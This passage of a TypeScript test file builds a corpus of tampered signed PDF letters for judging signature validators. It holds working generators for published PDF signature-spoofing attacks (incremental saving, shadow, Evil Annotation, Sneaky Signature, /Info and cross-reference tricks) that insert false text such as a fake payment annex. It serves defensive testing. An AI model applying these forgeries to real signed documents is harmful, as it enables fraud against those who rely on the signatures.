/**
 * A corpus of tampered and legitimate signed letters, to judge PDF signature validators with.
 *
 * Every case is made at test time from the project's own letter, signed by the president and
 * then the commissioner with the test PKI (test/support/signed-pdf.ts): no binary is committed.
 * A few attacks need something prepared in revision 1 (an overlay, a hidden layer, an unused
 * page, a reference to an object that does not exist yet); they start from a variant of the
 * letter, signed the same way. The attacks are the published classes, as they apply to a letter
 * signed twice with nothing certified:
 *
 * - Mladenov, Mainka, Meyer zu Selhausen, Grothe, Schwenk, "1 Trillion Dollar Refund: How To
 *   Spoof PDF Signatures", CCS 2019: Universal Signature Forgery (USF), Incremental Saving Attack
 *   (ISA), Signature Wrapping (SWA);
 * - Mainka, Mladenov, Rohlmann, "Shadow Attacks: Hiding and Replacing Content in Signed PDFs",
 *   NDSS 2021: hide, replace, hide-and-replace;
 * - Rohlmann, Mladenov, Mainka, Schwenk, "Breaking the Specification: PDF Certification",
 *   IEEE S&P 2021: Evil Annotation (EAA) and Sneaky Signature (SSA);
 * - and the reader's own weak points: what /Info may name, generations, an object listed twice,
 *   bytes no cross-reference section covers, and inputs that cost time and memory.
 *
 * The updates are written here as raw text ({@link appendRevision}), not with the project's
 * writer, so that they can break the rules on purpose. Objects of the genuine letter are found
 * with pdf-lib's loader, which is right for a genuine file (it has no duplicate definitions).
 *
 * Whether an attack is "real" is measured, not assumed: {@link renderPages} draws every page
 * with poppler (`pdftoppm -r 30`) and each case records whether the drawing differs from the
 * genuine letter it came from.
 */
import { execFile, execFileSync, spawn } from 'node:child_process';
import { mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { promisify } from 'node:util';
import { inflateSync } from 'node:zlib';
import {
  PDFArray,
  PDFDict,
  PDFDocument,
  PDFName,
  PDFRawStream,
  PDFRef,
  PDFString,
  type PDFObject,
} from 'pdf-lib';
import { renderLetterPdf } from '../../src/activities/letter';
import { SIGNATURE_FIELD } from '../../src/domain/process';
import { addSignatureFields } from '../../src/pdf/signature-fields';
import type { JudgePolicy } from '../../src/pdf/judge';
import { verifyPdfSignatures } from '../../src/pdf/verify-pdf';
import { loadTrustStore, SignatureVerifier } from '../../src/signatures';
import { signingFixtures } from './fixtures';
import { HUIXQUILUCAN } from './letters';
import { PYHANKO_HELPER, pyhankoPython } from './pdf-validators';
import type { Party } from './pki';
import { signField } from './signed-pdf';

// ---------------------------------------------------------------------------------------------
// The corpus

/** The classes, in the order of the table. */
export const ATTACK_CLASSES = {
  info: '1 /Info names another object',
  generation: '2 generations',
  duplicate: '3 object listed twice',
  fakeSignature: '4 /FT /Sig on non-signatures',
  replay: '5 replay, USF, SWA',
  outside: '6 bytes outside revisions',
  shadow: '7 shadow',
  evilAnnotation: '8 Evil Annotation',
  incrementalSaving: '9 Incremental Saving',
  cost: '10 cost',
  legitimate: 'legitimate',
} as const;
export type AttackClass = (typeof ATTACK_CLASSES)[keyof typeof ATTACK_CLASSES];

/** The genuine letters cases are made from. */
export type BaseName = 'genuine' | 'shadow' | 'undefined-ref' | 'three-fields' | 'xref-stream';

export interface CorpusCase {
  /** Unique, kebab-case. */
  readonly name: string;
  readonly attackClass: AttackClass;
  /** True when no validator may report the letter valid. */
  readonly tampered: boolean;
  /**
   * A legitimate letter our judge accepts only under a policy: `new-signature-fields` (a visible
   * signature field added after signing: a modification by default, valid with
   * `allowNewSignatureFields`); `over-budget` (beyond the reading budget: refused with
   * VERIFICATION_LIMIT_EXCEEDED, quickly).
   */
  readonly expect?: 'new-signature-fields' | 'over-budget';
  readonly description: string;
  readonly pdf: Buffer;
  /** The genuine letter the case was made from; its drawing is the reference. */
  readonly base: BaseName;
  /** poppler (`pdftoppm -r 30`) draws something different from `base`, or cannot draw it. */
  readonly popplerShowsChange: boolean;
  /** A denial-of-service case: judge it in a child process and measure time and memory. */
  readonly cost: boolean;
}

type Draft = Omit<CorpusCase, 'popplerShowsChange' | 'cost' | 'base'> & {
  readonly base?: BaseName;
  readonly cost?: boolean;
};

/**
 * Every case, genuine letters included (as legitimate controls). Takes some seconds: two
 * signatures per letter variant, a few pyHanko runs, and a poppler drawing per case.
 */
export async function buildCorpus(): Promise<CorpusCase[]> {
  const letters = await genuineLetters();
  await prepareObjects(letters);
  const drafts: Draft[] = [
    ...legitimate(letters),
    ...infoNamesOtherObjects(letters),
    ...generations(letters.genuine),
    ...listedTwice(letters.genuine),
    ...fakeSignatureFields(letters),
    ...replayAndForgery(letters.genuine),
    ...outsideRevisions(letters.genuine),
    ...shadow(letters),
    ...evilAnnotations(letters.genuine),
    ...incrementalSaving(letters.genuine),
    ...cost(letters),
  ];
  const names = new Set<string>();
  for (const d of drafts) {
    if (names.has(d.name)) throw new Error(`duplicate case name ${d.name}`);
    names.add(d.name);
  }
  const reference = new Map<BaseName, Promise<Rendering>>();
  for (const [name, pdf] of Object.entries(letters) as [BaseName, Buffer][])
    reference.set(name, renderPages(pdf));
  const drawn = await inBatches(drafts, 2, (d) => renderPages(d.pdf));
  return Promise.all(
    drafts.map(async (d, i) => ({
      ...d,
      base: d.base ?? 'genuine',
      cost: d.cost ?? false,
      popplerShowsChange: !sameRendering(drawn[i]!, await reference.get(d.base ?? 'genuine')!),
    })),
  );
}

// ---------------------------------------------------------------------------------------------
// The genuine letters

const PRESIDENT_ROLE = 'Presidenta Municipal de Huixquilucan';
const COMMISSIONER_ROLE = 'Comisionado Presidente del Infoem';
/** The third field of the three-field letter, and of pyHanko's new field. */
export const WITNESS_FIELD = 'FirmaTestigo';

/** Revision 1 signed by the president, then the commissioner, as the product does it. */
export async function signTwice(revision1: Buffer): Promise<Buffer> {
  const f = signingFixtures();
  const once = await signField(revision1, SIGNATURE_FIELD.municipal, f.president, PRESIDENT_ROLE, [
    f.intermediate,
  ]);
  return signField(once, SIGNATURE_FIELD.institute, f.commissioner, COMMISSIONER_ROLE, [f.intermediate]);
}

let genuine: Promise<Buffer> | undefined;

/** The project's letter, signed twice: what every attack starts from. Made once per process. */
export function genuineLetter(): Promise<Buffer> {
  genuine ??= renderLetterPdf(HUIXQUILUCAN).then(signTwice);
  return genuine;
}

async function genuineLetters(): Promise<Record<BaseName, Buffer>> {
  const revision1 = await renderLetterPdf(HUIXQUILUCAN);
  const f = signingFixtures();
  const threeFields = await signTwice(
    await addSignatureFields(revision1, [{ name: WITNESS_FIELD, pageIndex: 1, rect: [72, 440, 294, 518] }]),
  );
  // pdf-lib can write revision 1 with object streams and a cross-reference stream; our writer
  // cannot extend such a file, so pyHanko signs it.
  const streams = Buffer.from(
    await (
      await PDFDocument.load(revision1, { updateMetadata: false })
    ).save({ useObjectStreams: true, updateFieldAppearances: false }),
  );
  const xrefStream = pyhankoSign(
    pyhankoSign(streams, SIGNATURE_FIELD.municipal, f.president),
    SIGNATURE_FIELD.institute,
    f.commissioner,
  );
  return {
    genuine: await genuineLetter(),
    shadow: await signTwice(await shadowRevision1(revision1)),
    'undefined-ref': await signTwice(await undefinedReferenceRevision1(revision1)),
    'three-fields': threeFields,
    'xref-stream': xrefStream,
  };
}

/** What the shadow letter prepares: the overlay's field name, and the texts (WinAnsi escapes). */
const SHADOW = {
  /** A signature widget listed in page 2's /Annots only, whose opaque appearance covers text. */
  overlayField: 'Sello',
  hiddenText: 'Este Ayuntamiento retira la presente manifestaci\\363n.',
  layerText: 'Nota: la adhesi\\363n queda sujeta a la aprobaci\\363n del Cabildo.',
  stampText: 'Sello: Ayuntamiento de Huixquilucan',
  shadowPageText: 'El Ayuntamiento NO manifiesta su intenci\\363n de participar.',
} as const;

/**
 * Revision 1 with what shadow attacks prepare (Mainka et al., NDSS 2021), all on page 2, below
 * the signature fields: text under an opaque overlay (a signature widget outside the AcroForm),
 * text in an optional-content layer that is off, a stamp drawn from a form XObject, an unused
 * page object, and the page tree's /Kids as an indirect array. Signers see only the stamp.
 */
async function shadowRevision1(revision1: Buffer): Promise<Buffer> {
  const doc = await PDFDocument.load(revision1, { updateMetadata: false });
  const { context } = doc;
  const page = doc.getPage(1);
  const resources = page.node.Resources()!;
  const fonts = resources.lookup(PDFName.of('Font'), PDFDict);
  const bold = fonts.get(PDFName.of('F2'))!;

  page.node.addContentStream(
    context.register(context.stream(`BT /F2 13 Tf 0.7 0 0 rg 72 460 Td (${SHADOW.hiddenText}) Tj ET`, {})),
  );
  const cover = context.register(
    context.stream('1 1 1 rg 0 0 500 40 re f', {
      Type: 'XObject',
      Subtype: 'Form',
      BBox: [0, 0, 500, 40],
    }),
  );
  const overlay = context.register(
    context.obj({
      Type: 'Annot',
      Subtype: 'Widget',
      FT: 'Sig',
      T: PDFString.of(SHADOW.overlayField),
      Rect: [60, 445, 560, 485],
      F: 4,
      P: page.ref,
      AP: { N: cover },
    }),
  );
  page.node.addAnnot(overlay);

  const layer = context.register(context.obj({ Type: 'OCG', Name: PDFString.of('Oculto') }));
  doc.catalog.set(
    PDFName.of('OCProperties'),
    context.register(context.obj({ OCGs: [layer], D: { OFF: [layer], Order: [layer] } })),
  );
  resources.set(PDFName.of('Properties'), context.obj({ Capa: layer }));
  page.node.addContentStream(
    context.register(
      context.stream(`/OC /Capa BDC BT /F2 11 Tf 0 0 0.6 rg 72 400 Td (${SHADOW.layerText}) Tj ET EMC`, {}),
    ),
  );

  const stamp = context.register(
    context.stream(`BT /F2 11 Tf 0 0 0 rg 0 4 Td (${SHADOW.stampText}) Tj ET`, {
      Type: 'XObject',
      Subtype: 'Form',
      BBox: [0, 0, 400, 20],
      Resources: { Font: { F2: bold } },
    }),
  );
  resources.lookup(PDFName.of('XObject'), PDFDict).set(PDFName.of('Sello'), stamp);
  page.node.addContentStream(context.register(context.stream('q 1 0 0 1 72 340 cm /Sello Do Q', {})));

  const pages = doc.catalog.get(PDFName.of('Pages')) as PDFRef;
  // An unused page: in no page tree (pdf-lib writes every registered object).
  context.register(
    context.obj({
      Type: 'Page',
      Parent: pages,
      MediaBox: [0, 0, 612, 792],
      Resources: { Font: { F2: bold } },
      Contents: context.register(
        context.stream(`BT /F2 16 Tf 72 600 Td (${SHADOW.shadowPageText}) Tj ET`, {}),
      ),
    }),
  );
  const tree = context.lookup(pages, PDFDict);
  tree.set(PDFName.of('Kids'), context.register(tree.lookup(PDFName.of('Kids'), PDFArray)));
  return save(doc);
}

/** The object number the undefined-reference letter's page names before it exists. */
const UNDEFINED_OBJECT = 900;

/**
 * Revision 1 whose page 2 draws an XObject `900 0 R` that does not exist: viewers draw nothing
 * there until a later revision defines the object.
 */
async function undefinedReferenceRevision1(revision1: Buffer): Promise<Buffer> {
  const doc = await PDFDocument.load(revision1, { updateMetadata: false });
  const page = doc.getPage(1);
  page.node
    .Resources()!
    .lookup(PDFName.of('XObject'), PDFDict)
    .set(PDFName.of('Anexo'), PDFRef.of(UNDEFINED_OBJECT));
  page.node.addContentStream(doc.context.register(doc.context.stream('q 1 0 0 1 72 340 cm /Anexo Do Q', {})));
  return save(doc);
}

async function save(doc: PDFDocument): Promise<Buffer> {
  return Buffer.from(await doc.save({ useObjectStreams: false, updateFieldAppearances: false }));
}

// ---------------------------------------------------------------------------------------------
// Raw incremental updates (ISO 32000-1 §7.5.6), correct by default and wrong on request

/** One object of an update. */
export interface RawObject {
  readonly num: number;
  /** The generation its cross-reference row gives (default 0). */
  readonly gen?: number;
  readonly body: string | Buffer;
  /** The `N G obj` line actually written, when it should disagree with the row. */
  readonly header?: string;
}

export type XrefRow =
  | { readonly num: number; readonly gen?: number; readonly offset: number }
  | { readonly num: number; readonly free: true };

export interface RevisionOptions {
  readonly objects?: readonly RawObject[];
  /** Trailer entries as PDF text (`{ Info: '5 0 R' }`); undefined removes one. Others repeat the base's. */
  readonly trailer?: Readonly<Record<string, string | undefined>>;
  /** The rows of the cross-reference section, given each object's offset; default one row each. */
  readonly rows?: (offsets: readonly number[]) => XrefRow[];
  /** Bytes written between the base's end and the update's first object. */
  readonly gap?: string | Buffer;
  /** The offset written after `startxref`, given the section's (default: the section's). */
  readonly startxref?: (xrefAt: number) => number;
}

/** The last classic trailer of a file, and where its cross-reference section is. */
export interface Trailer {
  readonly size: number;
  readonly entries: ReadonlyMap<string, string>;
  readonly xref: number;
}

/** Reads the trailer of the file's last revision (classic cross-reference table). */
export function trailerOf(pdf: Buffer): Trailer {
  const text = pdf.toString('latin1', Math.max(0, pdf.length - 4096));
  const end = /startxref\s+(\d+)\s+%%EOF\s*$/.exec(text);
  const at = text.lastIndexOf('trailer');
  if (end === null || at < 0) throw new Error('no classic trailer at the end of the file');
  const dict = text.slice(at, end.index);
  const entries = new Map<string, string>();
  for (const [key, pattern] of [
    ['Size', /\/Size\s+(\d+)/],
    ['Root', /\/Root\s+(\d+\s+\d+\s+R)/],
    ['Info', /\/Info\s+(\d+\s+\d+\s+R)/],
    ['ID', /\/ID\s*(\[[^\]]*\])/],
  ] as const) {
    const value = pattern.exec(dict)?.[1];
    if (value !== undefined) entries.set(key, value);
  }
  return { size: Number(entries.get('Size')), entries, xref: Number(end[1]) };
}

/**
 * Appends one revision: the objects, a classic cross-reference section, a trailer with /Prev
 * naming the base's section, `startxref` and `%%EOF`. Options make any of them lie.
 */
export function appendRevision(base: Buffer, options: RevisionOptions = {}): Buffer {
  const objects = options.objects ?? [];
  const parts: Buffer[] = [base];
  let at = base.length;
  const push = (bytes: string | Buffer): void => {
    const b = typeof bytes === 'string' ? Buffer.from(bytes, 'latin1') : bytes;
    parts.push(b);
    at += b.length;
  };
  if (base.length > 0 && base[base.length - 1] !== 0x0a && base[base.length - 1] !== 0x0d) push('\n');
  if (options.gap !== undefined) push(options.gap);
  const offsets: number[] = [];
  for (const o of objects) {
    offsets.push(at);
    push(`${o.header ?? `${o.num} ${o.gen ?? 0} obj`}\n`);
    push(o.body);
    push('\nendobj\n');
  }
  const rows =
    options.rows?.(offsets) ?? objects.map((o, i) => ({ num: o.num, gen: o.gen ?? 0, offset: offsets[i]! }));
  const xrefAt = at;
  push(xrefSection(rows));

  const previous = trailerOf(base);
  const size = Math.max(previous.size, ...objects.map((o) => o.num + 1));
  const entries = new Map(previous.entries);
  entries.set('Size', String(size));
  entries.set('Prev', String(previous.xref));
  for (const [key, value] of Object.entries(options.trailer ?? {}))
    if (value === undefined) entries.delete(key);
    else entries.set(key, value);
  const trailer = [...entries].map(([key, value]) => `/${key} ${value}`).join(' ');
  const startxref = options.startxref?.(xrefAt) ?? xrefAt;
  push(`trailer\n<< ${trailer} >>\nstartxref\n${startxref}\n%%EOF\n`);
  return Buffer.concat(parts);
}

/** §7.5.4: a subsection per run of consecutive numbers, rows of exactly 20 bytes. */
function xrefSection(rows: readonly XrefRow[]): string {
  let text = 'xref\n';
  for (let i = 0; i < rows.length;) {
    let j = i;
    while (j + 1 < rows.length && rows[j + 1]!.num === rows[j]!.num + 1) j++;
    text += `${rows[i]!.num} ${j - i + 1}\n`;
    for (const row of rows.slice(i, j + 1))
      text +=
        'free' in row
          ? '0000000000 65535 f \n'
          : `${String(row.offset).padStart(10, '0')} ${String(row.gen ?? 0).padStart(5, '0')} n \n`;
    i = j + 1;
  }
  return text;
}

/** New objects numbered from the base's /Size on, then written as one revision. */
export class Update {
  readonly objects: RawObject[] = [];
  private next: number;

  constructor(readonly base: Buffer) {
    this.next = trailerOf(base).size;
  }

  /** A new object; returns its reference as text. */
  add(body: string | Buffer): string {
    const ref = this.reserve();
    this.set(ref, body);
    return ref;
  }

  /** A number for a new object whose body is {@link set} later (it must name what follows it). */
  reserve(): string {
    return `${this.next++} 0 R`;
  }

  /** A new version of an existing object. */
  set(ref: PDFRef | string, body: string | Buffer, extra: Partial<RawObject> = {}): this {
    const [num, gen] = String(ref).split(' ').map(Number);
    this.objects.push({ num: num!, gen: gen!, body, ...extra });
    return this;
  }

  write(options: Omit<RevisionOptions, 'objects'> = {}): Buffer {
    return appendRevision(this.base, { ...options, objects: this.objects });
  }
}

/** A stream object's body; /Length is computed. */
export function stream(dict: string, data: string | Buffer): Buffer {
  const bytes = typeof data === 'string' ? Buffer.from(data, 'latin1') : data;
  return Buffer.concat([
    Buffer.from(`<< ${dict} /Length ${bytes.length} >>\nstream\n`, 'latin1'),
    bytes,
    Buffer.from('\nendstream', 'latin1'),
  ]);
}

/** A form XObject `w` × `h` drawing `content`, with the letter's bold font as /F2. */
function form(letter: LetterObjects, [w, h]: [number, number], content: string): Buffer {
  return stream(
    `/Type /XObject /Subtype /Form /BBox [0 0 ${w} ${h}] /Resources << /Font << /F2 ${String(letter.bold)} >> >>`,
    content,
  );
}

/** A dictionary's text with some entries replaced (PDF text) or, with undefined, removed. */
export function dictText(dict: PDFDict, changes: Readonly<Record<string, string | undefined>> = {}): string {
  return `<< ${entriesText(dict, changes)} >>`;
}

/** The same without the brackets: the entries of a stream dictionary for {@link stream}. */
export function entriesText(dict: PDFDict, changes: Readonly<Record<string, string | undefined>>): string {
  const entries = new Map(dict.entries().map(([k, v]) => [k.asString().slice(1), v.toString()]));
  for (const [key, value] of Object.entries(changes))
    if (value === undefined) entries.delete(key);
    else entries.set(key, value);
  return [...entries].map(([k, v]) => `/${k} ${v}`).join(' ');
}

/**
 * The bytes of the object's current body (`num 0 obj` … `endobj`, exclusive), as the letter's
 * writers lay objects out: each on a line of its own, the last definition the current one.
 */
export function rawBody(pdf: Buffer, ref: PDFRef | string): Buffer {
  const head = `\n${String(ref).replace(/ R$/, '')} obj\n`;
  const at = pdf.lastIndexOf(head, undefined, 'latin1');
  if (at < 0) throw new Error(`no ${head.trim()} in the file`);
  return pdf.subarray(at + head.length, pdf.indexOf('\nendobj', at, 'latin1'));
}

/** Offset of the object's current definition (its `N G obj` line). */
export function offsetOf(pdf: Buffer, ref: PDFRef | string): number {
  const at = pdf.lastIndexOf(`\n${String(ref).replace(/ R$/, '')} obj\n`, undefined, 'latin1');
  if (at < 0) throw new Error(`no ${String(ref)} in the file`);
  return at + 1;
}

/** A literal string in WinAnsi (the letter's fonts): Latin-1 characters as octal escapes. */
export function pdfText(text: string): string {
  return `(${[...text]
    .map((c) => {
      const code = c.charCodeAt(0);
      if (c === '(' || c === ')' || c === '\\') return `\\${c}`;
      return code < 0x80 ? c : `\\${code.toString(8)}`;
    })
    .join('')})`;
}

// ---------------------------------------------------------------------------------------------
// Finding the letter's objects

export interface LetterObjects {
  readonly doc: PDFDocument;
  readonly catalog: PDFRef;
  readonly pages: PDFRef;
  readonly info: PDFRef;
  readonly acroForm: PDFRef | undefined;
  /** The page objects, in order. */
  readonly page: readonly PDFRef[];
  /** Page 1's content stream (the letter's text); page 1 has exactly one. */
  readonly content: PDFRef;
  /** The letter's fonts: /F1 Helvetica, /F2 Helvetica-Bold. */
  readonly regular: PDFRef;
  readonly bold: PDFRef;
  /** By field name: the field (merged with its widget), its /V and its /AP /N. */
  readonly field: Readonly<Record<string, PDFRef>>;
  readonly signature: Readonly<Record<string, PDFRef>>;
  readonly appearance: Readonly<Record<string, PDFRef>>;
}

/** The letter's objects, by what they are. */
export async function letterObjects(pdf: Buffer): Promise<LetterObjects> {
  const doc = await PDFDocument.load(pdf, { updateMetadata: false, throwOnInvalidObject: true });
  const { context } = doc;
  const pages = doc.getPages();
  const fonts = pages[0]!.node.Resources()!.lookup(PDFName.of('Font'), PDFDict);
  const fieldRefs = doc.catalog
    .lookup(PDFName.of('AcroForm'), PDFDict)
    .lookup(PDFName.of('Fields'), PDFArray);
  const field: Record<string, PDFRef> = {};
  const signature: Record<string, PDFRef> = {};
  const appearance: Record<string, PDFRef> = {};
  for (const ref of fieldRefs.asArray() as PDFRef[]) {
    const dict = context.lookup(ref, PDFDict);
    const name = dict.lookup(PDFName.of('T'), PDFString).decodeText();
    field[name] = ref;
    const value = dict.get(PDFName.of('V'));
    if (value instanceof PDFRef) signature[name] = value;
    const normal = dict.lookupMaybe(PDFName.of('AP'), PDFDict)?.get(PDFName.of('N'));
    if (normal instanceof PDFRef) appearance[name] = normal;
  }
  return {
    doc,
    catalog: context.trailerInfo.Root as PDFRef,
    pages: doc.catalog.get(PDFName.of('Pages')) as PDFRef,
    info: context.trailerInfo.Info as PDFRef,
    acroForm: doc.catalog.get(PDFName.of('AcroForm')) as PDFRef | undefined,
    page: pages.map((p) => p.ref),
    content: pages[0]!.node.get(PDFName.of('Contents')) as PDFRef,
    regular: fonts.get(PDFName.of('F1')) as PDFRef,
    bold: fonts.get(PDFName.of('F2')) as PDFRef,
    field,
    signature,
    appearance,
  };
}

/** The dictionary of `ref` (a stream's dictionary for a stream). */
export function dictOf(letter: LetterObjects, ref: PDFRef): PDFDict {
  const object: PDFObject | undefined = letter.doc.context.lookup(ref);
  if (object instanceof PDFRawStream) return object.dict;
  if (object instanceof PDFDict) return object;
  throw new Error(`${String(ref)} is not a dictionary`);
}

/** A stream's data, decoded when Flate-compressed. */
export function streamData(letter: LetterObjects, ref: PDFRef): Buffer {
  const object = letter.doc.context.lookup(ref);
  if (!(object instanceof PDFRawStream)) throw new Error(`${String(ref)} is not a stream`);
  const raw = Buffer.from(object.contents);
  return object.dict.get(PDFName.of('Filter')) === PDFName.of('FlateDecode') ? inflateSync(raw) : raw;
}

/** What the attacks draw: large red text across page 1's body. */
const DEFACEMENT = `q BT /F2 30 Tf 0.85 0 0 rg 80 420 Td ${pdfText('TEXTO ALTERADO')} Tj ET Q`;

/** Page 1's content stream with the defacement drawn on top, uncompressed. */
function defacedContent(letter: LetterObjects): Buffer {
  return stream('', Buffer.concat([streamData(letter, letter.content), Buffer.from(`\n${DEFACEMENT}\n`)]));
}

/** Page 2's dictionary with more annotations. */
function page2WithAnnots(letter: LetterObjects, ...added: string[]): string {
  const page = dictOf(letter, letter.page[1]!);
  const annots = page.lookupMaybe(PDFName.of('Annots'), PDFArray)?.asArray().map(String) ?? [];
  return dictText(page, { Annots: `[ ${[...annots, ...added].join(' ')} ]` });
}

/** The AcroForm with more fields. */
function acroFormWithFields(letter: LetterObjects, ...added: string[]): string {
  const form = dictOf(letter, letter.acroForm!);
  const fields = form.lookup(PDFName.of('Fields'), PDFArray).asArray().map(String);
  return dictText(form, { Fields: `[ ${[...fields, ...added].join(' ')} ]` });
}

// ---------------------------------------------------------------------------------------------
// 1. /Info aimed at other objects

/**
 * The trailer's /Info may name any dictionary; a judge that lets "the document information"
 * change whatever object /Info names lets an update rewrite anything by naming it.
 */
function infoNamesOtherObjects(letters: Record<BaseName, Buffer>): Draft[] {
  const G = letters.genuine;
  const cls = ATTACK_CLASSES.info;
  const l = objectsOf(G);
  const named = (ref: PDFRef, body: string | Buffer): Buffer =>
    new Update(G).set(ref, body).write({ trailer: { Info: String(ref) } });
  const municipal = SIGNATURE_FIELD.municipal;
  const sigText = rawBody(G, l.signature[municipal]!).toString('latin1');
  const u = objectsOf(letters['undefined-ref']);
  const annex = form(
    u,
    [470, 60],
    `BT /F2 12 Tf 0.8 0 0 rg 0 40 Td ${pdfText('ANEXO: el Ayuntamiento se obliga a pagar al Infoem $1,000,000.')} Tj ET`,
  );
  return [
    {
      name: 'info-names-content-stream',
      attackClass: cls,
      tampered: true,
      description:
        'trailer /Info names page 1’s content stream, which the update rewrites (text drawn on it)',
      pdf: named(l.content, defacedContent(l)),
    },
    {
      name: 'info-names-pages',
      attackClass: cls,
      tampered: true,
      description: 'trailer /Info names /Pages, rewritten with the two pages swapped',
      pdf: named(
        l.pages,
        dictText(dictOf(l, l.pages), { Kids: `[ ${String(l.page[1])} ${String(l.page[0])} ]` }),
      ),
    },
    {
      name: 'info-names-font',
      attackClass: cls,
      tampered: true,
      description: 'trailer /Info names the body font (/F1), rewritten as Courier',
      pdf: named(l.regular, dictText(dictOf(l, l.regular), { BaseFont: '/Courier' })),
    },
    {
      name: 'info-names-widget',
      attackClass: cls,
      tampered: true,
      description: 'trailer /Info names the president’s signature widget, rewritten hidden (/F 2)',
      pdf: named(l.field[municipal]!, dictText(dictOf(l, l.field[municipal]!), { F: '2' })),
    },
    {
      name: 'info-names-signature-appearance',
      attackClass: cls,
      tampered: true,
      description:
        'trailer /Info names the president’s signature appearance stream, redrawn as “FIRMA REVOCADA”',
      pdf: named(
        l.appearance[municipal]!,
        stream(
          entriesText(dictOf(l, l.appearance[municipal]!), { Length: undefined, Filter: undefined }),
          `BT /F2 16 Tf 0.8 0 0 rg 10 40 Td ${pdfText('FIRMA REVOCADA')} Tj ET`,
        ),
      ),
    },
    {
      name: 'info-names-signature-dictionary',
      attackClass: cls,
      tampered: true,
      description:
        'trailer /Info names the president’s /Sig dictionary, rewritten with another signing time and a /Reason (same /ByteRange and /Contents)',
      pdf: named(
        l.signature[municipal]!,
        sigText
          .replace(/\/M \([^)]*\)/, '/M (D:20200101000000Z)')
          .replace('/Type /Sig', `/Type /Sig /Reason ${pdfText('Firmado bajo protesta; sin validez')}`),
      ),
    },
    {
      name: 'info-defines-undefined-xobject',
      attackClass: cls,
      tampered: true,
      base: 'undefined-ref',
      description: `page 2 draws XObject ${UNDEFINED_OBJECT} 0 R, undefined when signed; an update defines it and names it in /Info`,
      pdf: new Update(letters['undefined-ref'])
        .set(`${UNDEFINED_OBJECT} 0 R`, annex)
        .write({ trailer: { Info: `${UNDEFINED_OBJECT} 0 R` } }),
    },
    {
      name: 'defines-undefined-xobject',
      attackClass: cls,
      tampered: true,
      base: 'undefined-ref',
      description: `the same definition of ${UNDEFINED_OBJECT} 0 R, without naming it in /Info`,
      pdf: new Update(letters['undefined-ref']).set(`${UNDEFINED_OBJECT} 0 R`, annex).write(),
    },
  ];
}

/** The letters' objects, found once per letter. Filled by {@link prepareObjects}. */
const objectCache = new Map<Buffer, LetterObjects>();
function objectsOf(pdf: Buffer): LetterObjects {
  const found = objectCache.get(pdf);
  if (found === undefined) throw new Error('prepareObjects() first');
  return found;
}
async function prepareObjects(letters: Record<BaseName, Buffer>): Promise<void> {
  for (const [name, pdf] of Object.entries(letters))
    if (name !== 'xref-stream') objectCache.set(pdf, await letterObjects(pdf));
}

// ---------------------------------------------------------------------------------------------
// 2. Generations, 3. an object listed twice

function generations(G: Buffer): Draft[] {
  const l = objectsOf(G);
  const n = l.content.objectNumber;
  const cls = ATTACK_CLASSES.generation;
  return [
    {
      name: 'generation-1-named-in-info',
      attackClass: cls,
      tampered: true,
      description: `the update writes \`${n} 1 obj\` (defaced page 1 content), row generation 1, and names ${n} 1 R in /Info; the page still says ${n} 0 R`,
      pdf: new Update(G).set(`${n} 1 R`, defacedContent(l)).write({ trailer: { Info: `${n} 1 R` } }),
    },
    {
      name: 'generation-1',
      attackClass: cls,
      tampered: true,
      description: `the update writes \`${n} 1 obj\` (defaced page 1 content), row generation 1`,
      pdf: new Update(G).set(`${n} 1 R`, defacedContent(l)).write(),
    },
    {
      name: 'generation-row-1-body-0',
      attackClass: cls,
      tampered: true,
      description: `the row says generation 1, the body is \`${n} 0 obj\` (defaced page 1 content)`,
      pdf: new Update(G).set(`${n} 1 R`, defacedContent(l), { header: `${n} 0 obj` }).write(),
    },
    {
      name: 'generation-row-1-body-0-font',
      attackClass: ATTACK_CLASSES.shadow,
      tampered: true,
      description: `replace: the body font /F1 swapped for Courier as \`${l.regular.objectNumber} 0 obj\` under a generation-1 row`,
      pdf: new Update(G)
        .set(`${l.regular.objectNumber} 1 R`, dictText(dictOf(l, l.regular), { BaseFont: '/Courier' }), {
          header: `${l.regular.objectNumber} 0 obj`,
        })
        .write(),
    },
  ];
}

function listedTwice(G: Buffer): Draft[] {
  const l = objectsOf(G);
  const n = l.content.objectNumber;
  const original = offsetOf(G, l.content);
  const cls = ATTACK_CLASSES.duplicate;
  const update = new Update(G).set(l.content, defacedContent(l));
  return [
    {
      name: 'listed-twice-original-first',
      attackClass: cls,
      tampered: true,
      description: `one section lists object ${n} twice: first at its signed offset, then at a defaced copy`,
      pdf: update.write({
        rows: ([defaced]) => [
          { num: n, offset: original },
          { num: n, offset: defaced! },
        ],
      }),
    },
    {
      name: 'listed-twice-defaced-first',
      attackClass: cls,
      tampered: true,
      description: `one section lists object ${n} twice: first at a defaced copy, then at its signed offset`,
      pdf: update.write({
        rows: ([defaced]) => [
          { num: n, offset: defaced! },
          { num: n, offset: original },
        ],
      }),
    },
  ];
}

// ---------------------------------------------------------------------------------------------
// 4. /FT /Sig on things that are not signatures (and the Sneaky Signature)

function fakeSignatureFields(letters: Record<BaseName, Buffer>): Draft[] {
  const G = letters.genuine;
  const l = objectsOf(G);
  const cls = ATTACK_CLASSES.fakeSignature;
  const p2 = String(l.page[1]);
  const banner = (text: string, w = 468, h = 40): Buffer =>
    form(
      l,
      [w, h],
      `0.95 0.9 0.2 rg 0 0 ${w} ${h} re f BT /F2 18 Tf 0.6 0 0 rg 10 14 Td ${pdfText(text)} Tj ET`,
    );
  const onPage2 = (annot: (ap: string) => string, alsoField: boolean, text: string): Buffer => {
    const u = new Update(G);
    const widget = u.add(annot(u.add(banner(text))));
    u.set(l.page[1]!, page2WithAnnots(l, widget));
    if (alsoField) u.set(l.acroForm!, acroFormWithFields(l, widget));
    return u.write();
  };
  const sneaky = (): Buffer => {
    const u = new Update(G);
    const cover = u.add(
      form(
        l,
        [612, 792],
        `1 1 1 rg 0 0 612 792 re f BT /F2 22 Tf 0 0 0 rg 72 650 Td ${pdfText('El Ayuntamiento de Huixquilucan')} Tj 0 -30 Td ${pdfText('NO participa en Gobierno Abierto.')} Tj ET`,
      ),
    );
    const widget = u.add(
      `<< /Type /Annot /Subtype /Widget /FT /Sig /T (FirmaAdicional) /Rect [0 0 612 792] /F 4 /P ${String(l.page[0])} /AP << /N ${cover} >> >>`,
    );
    const page1 = dictOf(l, l.page[0]!);
    u.set(l.page[0]!, dictText(page1, { Annots: `[ ${widget} ]` }));
    u.set(l.acroForm!, acroFormWithFields(l, widget));
    return u.write();
  };
